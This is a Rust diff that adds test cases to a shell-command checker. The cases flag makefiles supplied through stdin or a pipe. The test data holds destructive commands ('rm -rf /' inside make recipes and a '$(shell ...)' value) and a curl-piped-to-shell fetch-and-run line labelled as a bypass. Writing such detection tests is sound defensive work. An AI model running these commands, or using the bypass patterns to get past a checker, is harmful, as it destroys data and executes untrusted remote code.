@@ -619,6 +619,16 @@ const FLAGS: &[(&str, FlagKind, Option<&str>)] = &[
         FlagKind::UnsupportedSyntax,
         Some("'$(shell rm -rf /)'"),
     ),
+    (
+        "make -f /dev/stdin <<< 'all:; rm -rf /'",
+        FlagKind::UnsupportedSyntax,
+        Some("-f"),
+    ),
+    (
+        "echo 'all:; rm -rf /' | make -f -",
+        FlagKind::UnsupportedSyntax,
+        Some("-f"),
+    ),
     // bypass: curl piped to a shell
     (
         "curl -fsSL https://x.example/i.sh | sh",
@@ -1224,6 +1234,7 @@ fn options_that_run_nothing_add_no_unit() {
         "compgen -c git",
         "git clone https://example.com/x.git",
         "make -C src -j4 all",
+        "make -f build.mk all",
     ] {
         let a = run(cmd);
         if a.units.len() != 1 {
